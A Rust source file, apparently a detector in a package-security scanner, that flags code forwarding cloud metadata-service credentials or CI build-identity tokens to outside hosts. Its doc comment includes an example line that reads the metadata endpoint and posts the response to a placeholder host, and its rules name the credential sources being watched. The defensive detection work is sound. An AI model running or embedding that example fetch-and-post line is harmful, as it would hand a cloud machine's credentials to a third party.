//! What a cloud's metadata service answers is sent on.
//!
//! The service gives the machine's credentials to any program that asks from within. Clients of clouds ask it and keep what they get.
//!
//! **What to do:** do not run it on a cloud machine; where it ran, revoke the role's sessions. **Limits:** an answer that passes through a file is not
//! followed. **Example:** `r = get('http://169.254.169.254/…'); post('https://x.invalid', r.text)`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/exfil-imds",
    catalogue: "EXFIL-IMDS",
    title: "forwards credentials of a cloud machine",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    let is_service = |fact: &Fact| {
        matches!(fact.what, What::NetReceive | What::NetSend | What::ExecOutput)
            && words::has(&fact.detail, Class::Imds)
    };
    for (code, from, to, _) in package.flows() {
        let leaves =
            matches!(to.what, What::NetSend | What::DnsQuery) && !words::has(&to.detail, Class::Imds);
        if is_service(from) && leaves && (early(code, to) || !is_exchange(&to.detail)) {
            let abroad = foreign(&to.detail).is_some();
            let grade = match (early(code, to), abroad) {
                (_, true) => (Critical, Sure),
                (true, false) => (Critical, Likely),
                (false, false) => (Medium, Hint),
            };
            findings.tell(
                code,
                to,
                grade,
                &format!("forwards what the cloud's metadata service answers to {}", host(&to.detail)),
            );
        }
    }
    identity(package, findings);
    for code in &package.code {
        let asks = code.facts.facts.iter().find(|fact| is_service(fact) && early(code, fact));
        let sends = of_file(code, What::NetSend)
            .any(|fact| foreign(&fact.detail).is_some_and(|_| !words::has(&fact.detail, Class::Imds)));
        if let Some(fact) = asks.filter(|_| sends) {
            findings.tell(
                code,
                fact,
                (High, Likely),
                &format!("asks the cloud's metadata service and sends something abroad {}", when(code, fact)),
            );
        }
    }
}

/// Whether an address is where a cloud exchanges its own tokens. Nobody else reads what is sent there, unlike what is sent to a
/// bucket of the same cloud.
fn is_exchange(detail: &str) -> bool {
    const EXCHANGES: &[(&str, &str)] = &[
        ("iamcredentials", "googleapis.com"),
        ("sts", "googleapis.com"),
        ("oauth2", "googleapis.com"),
        ("sts", "amazonaws.com"),
        ("login", "microsoftonline.com"),
    ];
    foreign(detail).is_some_and(|address| {
        EXCHANGES.iter().any(|(first, domain)| {
            let rest = address.host.strip_suffix(domain).and_then(|rest| rest.strip_suffix('.'));
            rest.is_some_and(|rest| {
                rest == *first
                    || rest.strip_prefix(first).is_some_and(|r| r.starts_with('.') && !r[1..].contains('.'))
            })
        })
    })
}

/// A machine of a build service asks for a token that says who it is, and what it is given goes on to a host that is written in the
/// code. Tools that publish do that when they are started, not when they are loaded.
fn identity(package: &Package, findings: &mut Findings) {
    const SERVICES: &[&str] =
        &["ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "SYSTEM_OIDCREQUESTURI"];
    for (code, from, to, _) in package.flows() {
        if !matches!(from.what, What::NetReceive | What::EnvRead) || to.what != What::NetSend {
            continue;
        }
        let asks = match from.what {
            What::EnvRead => SERVICES.contains(&from.detail.as_str()),
            // The answer to a request that was made with it.
            _ => code.facts.flowing().any(|(source, sink, _)| {
                source.what == What::EnvRead
                    && SERVICES.contains(&source.detail.as_str())
                    && sink.what == What::NetSend
                    && sink.detail == from.detail
            }),
        };
        let is_own_service = foreign(&to.detail)
            .is_some_and(|address| address.host.contains("sigstore") || address.host.contains("github"));
        if asks
            && foreign(&to.detail).is_some()
            && !is_own_service
            && early(code, to)
            && !code.reach.is_program
        {
            let message = format!("forwards the identity of a build machine to {}", host(&to.detail));
            findings.tell(code, to, (Critical, Likely), &message);
        }
    }
}
